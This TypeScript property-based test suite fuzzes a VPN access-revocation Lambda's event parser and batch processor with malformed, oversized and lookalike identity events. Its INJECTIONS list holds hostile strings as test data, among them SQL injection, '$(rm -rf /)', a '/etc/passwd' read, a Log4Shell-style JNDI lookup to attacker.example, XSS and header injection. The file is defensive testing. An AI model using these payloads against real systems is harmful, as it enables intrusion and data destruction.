import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { InvalidEventError } from '../../lambda/core/errors.ts';
import { identityKey } from '../../lambda/core/identity.ts';
import { identityForLogs } from '../../lambda/core/log-identity.ts';
import type { OutcomeDetail } from '../../lambda/core/outcome.ts';
import { protectedIdentities } from '../../lambda/core/protected-identities.ts';
import type { PublishResult } from '../../lambda/engine/adapters/eventbridge-outcomes.ts';
import { revokeAccess } from '../../lambda/engine/revoke-access.ts';
import { type LookUpUserName, processRevocationBatch } from '../../lambda/revoker/process-batch.ts';
import type { IdentityReference } from '../../sources/identity-source.ts';
import { OKTA_DEFAULT_EVENT_TYPES } from '../../sources/okta/events.ts';
import { type ParsedRequest, type SourcesConfig, toRevocationRequest } from '../../sources/requests.ts';
import { oktaEvent, runbookEvent, sqsRecord } from '../support/events.ts';
import {
  deliveredExample,
  EXAMPLE_FILES,
  EXAMPLE_SOURCES,
  EXAMPLES_DIR,
  isPutEventsExample,
  LIFT_EXAMPLES,
} from '../support/examples.ts';
import { FakeClientVpn, fakeClock } from '../support/fake-client-vpn.ts';

/** Fixed so a failure in CI replays locally; fast-check prints the counterexample and its path. */
const SEED = 20_261_122;
const RUNS = 200;
/** Far above the few milliseconds a parse takes: catches super-linear blow-ups, not slow machines. */
const PARSE_BUDGET_MS = 2_000;

type Json = Record<string, unknown>;

const STORE_ID = 'd-9067a1b2c3';
const USER_POOL_ID = 'us-east-1_ExAmPlE12';
const IDC_USER_ID = '94a8e4d8-e0b1-7052-3b5e-7c1f2a9d6e01';
const COGNITO_SUB = 'f4b8c4d8-2071-70c3-8e5f-1a2b3c4d5e6f';

/** Every identity source enabled, matching the example events in examples/events/; lifts off (the batch's). */
const ALL_SOURCES: SourcesConfig = EXAMPLE_SOURCES;
/** The same with lifts on, so the lift normalisers get the hostile input too. */
const ALL_SOURCES_WITH_LIFTS: SourcesConfig = { ...ALL_SOURCES, lift: true };

// ---------------------------------------------------------------------------------------------------------
// Example events
// ---------------------------------------------------------------------------------------------------------

/** Every example file as written, plus the runbook requests as EventBridge delivers them (the files hold PutEvents entries). */
const EXAMPLES: ReadonlyMap<string, unknown> = (() => {
  const examples = new Map<string, unknown>();
  for (const file of EXAMPLE_FILES) {
    examples.set(file, JSON.parse(readFileSync(new URL(file, EXAMPLES_DIR), 'utf8')));
    if (isPutEventsExample(file)) examples.set(`${file} (delivered)`, deliveredExample(file));
  }
  return examples;
})();
const EXAMPLE_NAMES = [...EXAMPLES.keys()];

const VICTIM = 'jane.doe@example.com';

/** Unchanged examples every-source parsing accepts, with the user they revoke (references via `lookUpUserName`). */
const VALID_EXAMPLES: Readonly<Record<string, string>> = {
  'auth0-limit-wc.json': VICTIM,
  'auth0-sapi-user-blocked.json': VICTIM,
  'auth0-sdu-user-deleted.json': VICTIM,
  'cognito-admindeleteuser.json': VICTIM,
  'cognito-admindisableuser.json': VICTIM,
  'cognito-adminuserglobalsignout-hidden-username.json': VICTIM,
  'idc-console-deleteuser.json': VICTIM,
  'idc-console-disableuser.json': VICTIM,
  'idc-identitystore-deleteuser.json': VICTIM,
  'idc-scim-deleteuser.json': VICTIM,
  'idc-scim-patchuser-deactivate.json': VICTIM,
  'okta-user-account-lock.json': VICTIM,
  'okta-user-deactivate.json': VICTIM,
  'okta-user-delete-initiated.json': VICTIM,
  'okta-user-session-clear.json': VICTIM,
  'okta-user-suspend.json': VICTIM,
  'onelogin-user-deleted.json': 'Jane Doe',
  'onelogin-user-suspended.json': 'Jane Doe',
  'runbook-request.json (delivered)': VICTIM,
};

const example = (name: string): Json => structuredClone(EXAMPLES.get(name)) as Json;

// ---------------------------------------------------------------------------------------------------------
// Arbitraries: hostile values, mutations, garbage bodies
// ---------------------------------------------------------------------------------------------------------

const WHITESPACE = [' ', '  ', '\t', '\n', '\r\n', '\u00a0', '\u2028', '\u3000', '\ufeff'];
const CONTROL = ['\u0000', '\u0007', '\u001b', '\u001f', '\u007f', 'jane\u0000doe', `${VICTIM}\u0000`];
const WILDCARDS = ['*', '?', '%', '.*', '%%', '_', '[a-z]*', '^.*$', '\\', '**'];
const INJECTIONS = [
  "'; DROP TABLE users; --",
  "jane' OR '1'='1",
  '$(rm -rf /)',
  '`reboot`',
  '; cat /etc/passwd',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-looking payload, literally
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '../../etc/passwd',
  '%00',
  '<script>alert(1)</script>',
  `${VICTIM}\r\nX-Injected: 1`,
  '\u202ejane.doe@example.com',
];
const HUGE = [
  'x'.repeat(300 * 1024),
  `${VICTIM}${' '.repeat(300 * 1024)}`,
  '\u00e9'.repeat(300 * 1024),
  '*'.repeat(300 * 1024),
];

const whitespace = fc.constantFrom('', ...WHITESPACE);
const padded = (inner: fc.Arbitrary<string>) =>
  fc.tuple(whitespace, inner, whitespace).map(([before, text, after]) => `${before}${text}${after}`);

/** A value of any JSON type, biased towards what breaks parsers and matchers. */
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.double(),
  fc.integer(),
  fc.boolean(),
  fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 3 }),
  fc.dictionary(fc.string(), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 }),
  fc.constantFrom(...HUGE),
  fc.string({ unit: 'binary' }),
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: 'binary-ascii' }),
  padded(fc.constantFrom(VICTIM, 'jane.doe', '*')),
  fc.constantFrom('', ...WHITESPACE, ...CONTROL, ...WILDCARDS, ...INJECTIONS),
);

type Path = readonly (string | number)[];

/** The paths of every value below `root`; `leavesOnly` keeps scalars and empty containers. */
function pathsOf(root: unknown, leavesOnly: boolean): Path[] {
  const paths: Path[] = [];
  const walk = (value: unknown, path: Path) => {
    const children: [string | number, unknown][] = Array.isArray(value)
      ? value.map((child, index): [number, unknown] => [index, child])
      : value !== null && typeof value === 'object'
        ? Object.entries(value)
        : [];
    if (path.length > 0 && (!leavesOnly || children.length === 0)) paths.push(path);
    for (const [key, child] of children) walk(child, [...path, key]);
  };
  walk(root, []);
  return paths;
}

interface Mutation {
  readonly kind: 'delete' | 'replace';
  /** Index into the current paths, modulo their number. */
  readonly at: number;
  readonly value: unknown;
}

const mutation: fc.Arbitrary<Mutation> = fc.record({
  kind: fc.constantFrom('delete', 'replace'),
  at: fc.nat(),
  value: hostileValue,
});

/** A copy of `event` with each mutation applied: a field at a random path deleted, or a random leaf replaced. */
function mutate(event: unknown, mutations: readonly Mutation[]): unknown {
  const copy: unknown = structuredClone(event);
  for (const { kind, at, value } of mutations) {
    const paths = pathsOf(copy, kind === 'replace');
    const path = paths[at % Math.max(paths.length, 1)];
    if (!path) continue;
    const parent = path.slice(0, -1).reduce<unknown>((node, key) => (node as Json)[key], copy);
    const key = path[path.length - 1] as string | number;
    if (kind === 'delete' && Array.isArray(parent)) parent.splice(key as number, 1);
    else if (kind === 'delete') delete (parent as Json)[key];
    else (parent as Json)[key] = value;
  }
  return copy;
}

const mutatedExample = (names: readonly string[]) =>
  fc
    .tuple(fc.constantFrom(...names), fc.array(mutation, { minLength: 1, maxLength: 3 }))
    .map(([name, mutations]) => JSON.stringify(mutate(EXAMPLES.get(name), mutations)));

/** `JSON.stringify` of anything, falling back to `String` for what JSON cannot hold (`undefined`). */
const stringify = (value: unknown): string => JSON.stringify(value) ?? String(value);

const arbitraryStrings = fc.oneof(
  fc.string(),
  fc.string({ unit: 'binary' }),
  fc.string({ unit: 'binary-ascii' }),
  fc.string({ unit: 'grapheme' }),
);

const arbitraryJson = fc.oneof(
  fc.json(),
  fc.json({ stringUnit: 'binary' }),
  fc.anything().map(stringify),
  fc.anything({ withNullPrototype: true, withObjectString: true }).map(stringify),
);

/** Each example's envelope (so it reaches its source's normaliser) around an arbitrary `detail`. */
const exampleEnvelopeWithJunkDetail = fc
  .tuple(
    fc.constantFrom(...EXAMPLE_NAMES.filter((name) => !Array.isArray(EXAMPLES.get(name)))),
    fc.oneof(fc.dictionary(fc.string(), hostileValue, { maxKeys: 6 }), fc.anything()),
  )
  .map(([name, detail]) => stringify({ ...example(name), detail }));

// ---------------------------------------------------------------------------------------------------------
// Assertions shared by the properties
// ---------------------------------------------------------------------------------------------------------

const hasControlCharacter = (text: string) =>
  [...text].some((char) => {
    const code = char.codePointAt(0) ?? 0;
    return code < 0x20 || code === 0x7f;
  });

function expectUsableName(identity: string) {
  expect(identity.length).toBeGreaterThan(0);
  expect(identity.length).toBeLessThanOrEqual(256);
  expect(identity.trim()).toBe(identity);
  expect(hasControlCharacter(identity)).toBe(false);
}

function expectUsableReference(identity: IdentityReference) {
  if (identity.kind === 'identity-store-user') {
    expect(ALL_SOURCES.identityCenter?.identityStoreIds).toContain(identity.identityStoreId);
    expect(identity.userId).toMatch(/^[0-9a-fA-F-]{36,47}$/);
  } else {
    expect(identity.kind).toBe('cognito-user');
    expect(ALL_SOURCES.cognito?.userPoolIds).toContain(identity.userPoolId);
    expect(identity.sub).toMatch(/^[0-9a-fA-F-]{36}$/);
  }
}

/** Parses with every source enabled; only `InvalidEventError` may escape, and it must come back promptly. */
function parseOrReject(body: string, config: SourcesConfig = ALL_SOURCES): ParsedRequest | InvalidEventError {
  const startedAt = performance.now();
  try {
    return toRevocationRequest(body, config);
  } catch (error) {
    if (error instanceof InvalidEventError) return error;
    throw error;
  } finally {
    expect(performance.now() - startedAt).toBeLessThan(PARSE_BUDGET_MS);
  }
}

/** With lifts on: a revoke or lift request with a usable identity, or `InvalidEventError`. */
function expectRequestOrInvalidEvent(body: string) {
  const result = parseOrReject(body, ALL_SOURCES_WITH_LIFTS);
  if (result instanceof InvalidEventError) return;
  expect(['revoke', 'lift']).toContain(result.action);
  if (typeof result.identity === 'string') expectUsableName(result.identity);
  else expectUsableReference(result.identity);
}

/** With lifts off, nothing becomes a lift request. */
function expectNoLift(body: string) {
  const result = parseOrReject(body, ALL_SOURCES);
  if (!(result instanceof InvalidEventError)) expect(result.action).toBe('revoke');
}

// ---------------------------------------------------------------------------------------------------------
// The batch against a fake Client VPN full of lookalikes
// ---------------------------------------------------------------------------------------------------------

const REGION = 'us-east-1';
const ENDPOINTS = ['cvpn-endpoint-0aaa0000000000001', 'cvpn-endpoint-0bbb0000000000002'] as const;

interface Who {
  readonly username?: string;
  readonly commonName?: string;
}

const VICTIM_CONNECTIONS: readonly Who[] = [
  { username: 'Jane.Doe@example.com' },
  { commonName: VICTIM },
  // Matched on its common name: the shared username must not be used to terminate (see the bystander below).
  { username: 'shared-vpn-user', commonName: 'JANE.DOE@EXAMPLE.COM' },
];

/** Names an event may legitimately carry (valid identities), lookalikes of the victim among them. */
const NAMEABLE_BYSTANDERS = [
  'jane.doe@example.com.evil',
  'jane.doe2@example.com',
  'jane.doe',
  'jane.doe@example.co',
  'ane.doe@example.com',
  'jane_doe@example.com',
  'jane.doe%40example.com',
  'jane.doe@ex\u0430mple.com',
  'Jane Doe',
  '*',
  '%',
  '?',
  '.*',
  'auth0|64f1c0de9a8b7c6d5e4f3a21',
  IDC_USER_ID,
  COGNITO_SUB,
  "'; DROP TABLE users; --",
  '$(rm -rf /)',
];

const BYSTANDER_CONNECTIONS: readonly Who[] = [
  ...NAMEABLE_BYSTANDERS.map((username) => ({ username })),
  { username: ` ${VICTIM}` },
  { username: `${VICTIM} ` },
  { username: `${VICTIM}\u0000` },
  { username: 'shared-vpn-user', commonName: 'bob@example.com' },
  { commonName: 'john.smith@example.com' },
  { username: 'it.admin@example.com' },
];

const POPULATION = [...VICTIM_CONNECTIONS, ...BYSTANDER_CONNECTIONS];

// The canonical key (its own properties are tested in identity.test.ts): surrounding spaces and case aside.
const key = identityKey;
/** Whether a connection belongs to one of `names` (canonical keys): its username or common name. */
const belongsTo = ({ username, commonName }: Who, names: ReadonlySet<string>) =>
  (!!username && names.has(key(username))) || (!!commonName && names.has(key(commonName)));

/** The names the Identity Center and Cognito examples refer to; any other reference no longer exists. */
const lookUpUserName: LookUpUserName = async (reference) => {
  if (reference.kind === 'identity-store-user') {
    return reference.identityStoreId === STORE_ID && reference.userId === IDC_USER_ID
      ? { userName: VICTIM, aliases: [] }
      : undefined;
  }
  return reference.userPoolId === USER_POOL_ID && reference.sub === COGNITO_SUB
    ? { userName: VICTIM, aliases: [] }
    : undefined;
};

function setup(people: readonly Who[]) {
  const fake = new FakeClientVpn();
  for (const endpoint of ENDPOINTS) fake.addEndpoint(REGION, endpoint);
  const connections = people.map((who, index) => ({
    who,
    connectionId: fake.connect(REGION, ENDPOINTS[index % ENDPOINTS.length] ?? ENDPOINTS[0], who),
  }));
  const clock = fakeClock();
  const published: OutcomeDetail[] = [];
  const process = processRevocationBatch({
    revoke: revokeAccess(
      { clientVpn: fake.forRegion, ...clock },
      { regions: [REGION], endpoints: { kind: 'all' }, terminateRetryBudgetMs: 0 },
    ),
    lookUpUserName,
    publish: async (outcomes) => {
      published.push(...outcomes);
      return outcomes.map((): PublishResult => ({ published: true }));
    },
    sources: ALL_SOURCES,
    protectedIdentities: protectedIdentities([]),
    identityForLogs: identityForLogs(undefined),
    dryRun: false,
    maxReceiveCount: 3,
    maxEventTimeSkewMs: 60_000,
    now: clock.now,
    logger: { info: () => {}, warn: () => {}, error: () => {} },
    metrics: { addMetric: () => {} },
  });
  const run = (records: ReturnType<typeof sqsRecord>[]) =>
    process(records, { deadline: clock.now() + 60_000 });
  /** The connections EC2 was asked to end. */
  const ended = () => connections.filter(({ connectionId }) => fake.statusOf(connectionId) !== 'active');
  return { connections, published, run, ended };
}

const nameToRevoke = fc.oneof(
  fc.constantFrom(VICTIM, ...NAMEABLE_BYSTANDERS),
  fc.mixedCase(fc.constantFrom(VICTIM, ...NAMEABLE_BYSTANDERS)),
  fc.constant('nobody@example.com'),
);

/** A valid event and the name it revokes. */
const validEvent: fc.Arbitrary<{ readonly event: Json; readonly names: string }> = fc.oneof(
  nameToRevoke.map((name) => ({ event: runbookEvent({ username: name, reason: 'IR-2041' }), names: name })),
  fc
    .tuple(nameToRevoke, fc.constantFrom(...OKTA_DEFAULT_EVENT_TYPES))
    .map(([name, type]) => ({ event: oktaEvent(name, type), names: name })),
  fc
    .constantFrom(...Object.entries(VALID_EXAMPLES))
    .map(([name, names]) => ({ event: example(name), names })),
);

const GARBAGE_ID = '<garbage-id>';

/** Gives a body's non-empty string `id` a placeholder, replaced per record so outcomes can be told apart. */
function withId(body: string, id: string): string {
  let parsed: unknown;
  try {
    parsed = JSON.parse(body);
  } catch {
    return body;
  }
  if (!parsed || typeof parsed !== 'object' || Array.isArray(parsed)) return body;
  const { id: current } = parsed as Json;
  return typeof current === 'string' && current !== '' ? JSON.stringify({ ...parsed, id }) : body;
}

const isRejected = (body: string) => parseOrReject(body) instanceof InvalidEventError;

/** Bodies that can never become a request (mutations that leave an example valid are not garbage). */
const garbageBody = fc
  .oneof(arbitraryStrings, arbitraryJson, exampleEnvelopeWithJunkDetail, mutatedExample(EXAMPLE_NAMES))
  .map((body) => withId(body, GARBAGE_ID))
  .filter(isRejected);

type BatchItem =
  | { readonly kind: 'garbage'; readonly body: string }
  | { readonly kind: 'valid'; readonly event: Json; readonly names: string };

const batch = fc.array(
  fc.oneof(
    { weight: 3, arbitrary: garbageBody.map((body): BatchItem => ({ kind: 'garbage', body })) },
    { weight: 1, arbitrary: validEvent.map((valid): BatchItem => ({ kind: 'valid', ...valid })) },
  ),
  { minLength: 1, maxLength: 8 },
);

/** The id a rejected outcome carries: the envelope's id when it has one, else the SQS message id. */
function expectedRequestId(body: string, messageId: string): string {
  try {
    const parsed: unknown = JSON.parse(body);
    const id =
      parsed && typeof parsed === 'object' && !Array.isArray(parsed) ? (parsed as Json).id : undefined;
    return typeof id === 'string' && id !== '' ? id : messageId;
  } catch {
    return messageId;
  }
}

const usernameArb = fc.oneof(
  fc.string(),
  fc.string({ unit: 'binary' }),
  fc.string({ unit: 'binary-ascii' }),
  fc.string({ minLength: 250, maxLength: 262 }),
  padded(fc.string({ minLength: 1 })),
  padded(fc.constantFrom(VICTIM, ...NAMEABLE_BYSTANDERS)),
  fc.mixedCase(fc.constantFrom(VICTIM, ...NAMEABLE_BYSTANDERS)),
  fc.constantFrom('', ...WHITESPACE, ...CONTROL, ...WILDCARDS, ...INJECTIONS, ...HUGE),
);

// ---------------------------------------------------------------------------------------------------------
// Properties
// ---------------------------------------------------------------------------------------------------------

describe('toRevocationRequest with every source enabled: a usable request or InvalidEventError', () => {
  it('for arbitrary strings', () => {
    fc.assert(fc.property(arbitraryStrings, expectRequestOrInvalidEvent), { numRuns: RUNS, seed: SEED });
  });

  it('for arbitrary JSON', () => {
    fc.assert(fc.property(arbitraryJson, expectRequestOrInvalidEvent), { numRuns: RUNS, seed: SEED });
  });

  it('for every source envelope around an arbitrary detail', () => {
    fc.assert(fc.property(exampleEnvelopeWithJunkDetail, expectRequestOrInvalidEvent), {
      numRuns: RUNS,
      seed: SEED,
    });
  });

  it.each(EXAMPLE_NAMES)('for mutations of %s', (name) => {
    fc.assert(fc.property(mutatedExample([name]), expectRequestOrInvalidEvent), {
      numRuns: RUNS,
      seed: SEED,
    });
  });
});

describe('toRevocationRequest with lifts off: never a lift request', () => {
  const LIFT_NAMES = EXAMPLE_NAMES.filter((name) =>
    LIFT_EXAMPLES.some((file) => name === file || name === `${file} (delivered)`),
  );

  it.each(LIFT_NAMES)('for mutations of %s', (name) => {
    fc.assert(fc.property(mutatedExample([name]), expectNoLift), { numRuns: RUNS, seed: SEED });
  });

  it('for every source envelope around an arbitrary detail', () => {
    fc.assert(fc.property(exampleEnvelopeWithJunkDetail, expectNoLift), { numRuns: RUNS, seed: SEED });
  });
});

describe('processRevocationBatch with garbage among valid events', () => {
  it('rejects every garbage record once, never retries it, and ends only the connections valid events name', async () => {
    await fc.assert(
      fc.asyncProperty(batch, async (items) => {
        // Prepare
        const { connections, published, run, ended } = setup(POPULATION);
        const records = items.map((item, index) =>
          sqsRecord(
            item.kind === 'garbage'
              ? withId(item.body, `garbage-${index}`)
              : { ...item.event, id: `valid-${index}` },
          ),
        );
        const named = new Set(items.flatMap((item) => (item.kind === 'valid' ? [key(item.names)] : [])));

        // Act
        const response = await run(records);

        // Assess
        const failed = new Set(response.batchItemFailures.map((failure) => failure.itemIdentifier));
        items.forEach((item, index) => {
          const record = records[index];
          if (!record) throw new Error('record missing');
          const requestId =
            item.kind === 'garbage' ? expectedRequestId(record.body, record.messageId) : `valid-${index}`;
          const outcomes = published.filter((outcome) => outcome.requestId === requestId);
          expect(outcomes).toHaveLength(1);
          if (item.kind === 'garbage') {
            expect(outcomes[0]).toMatchObject({ status: 'rejected', delivery: { willRetry: false } });
          } else {
            expect(['revoked', 'nothing-to-revoke']).toContain(outcomes[0]?.status);
          }
          expect(failed.has(record.messageId)).toBe(false);
        });
        expect(ended().map(({ who }) => who)).toEqual(
          connections.filter(({ who }) => belongsTo(who, named)).map(({ who }) => who),
        );
        const victim = connections.slice(0, VICTIM_CONNECTIONS.length);
        expect(victim.every(({ connectionId }) => ended().some((c) => c.connectionId === connectionId))).toBe(
          named.has(VICTIM),
        );
      }),
      { numRuns: RUNS, seed: SEED },
    );
  });
});

describe('runbook detail.username', () => {
  it('is rejected naming detail.username or revoked exactly as given, never widening to other users', async () => {
    await fc.assert(
      fc.asyncProperty(usernameArb, async (username) => {
        // Prepare
        const own: Who[] = username ? [{ username }, { commonName: username.toUpperCase() }] : [];
        const { connections, published, run, ended } = setup([...POPULATION, ...own]);
        const event = {
          ...runbookEvent({ username, reason: 'IR-2041: laptop reported stolen' }),
          id: 'req-1',
        };

        // Act
        const parsed = parseOrReject(JSON.stringify(event));
        await run([sqsRecord(event)]);

        // Assess
        const accepted = !(parsed instanceof InvalidEventError);
        if (accepted) {
          expect(parsed.identity).toBe(username);
        } else {
          expect(parsed.field ?? parsed.message).toMatch(/^detail\.username/);
        }
        expect(published).toHaveLength(1);
        expect(published[0]?.status).toBe(accepted ? 'revoked' : 'rejected');
        const input = new Set([key(username)]);
        expect(ended().every(({ who }) => belongsTo(who, input))).toBe(true);
        const wanted = accepted ? connections.filter(({ who }) => belongsTo(who, input)) : [];
        expect(ended()).toEqual(wanted);
      }),
      { numRuns: RUNS, seed: SEED },
    );
  });
});
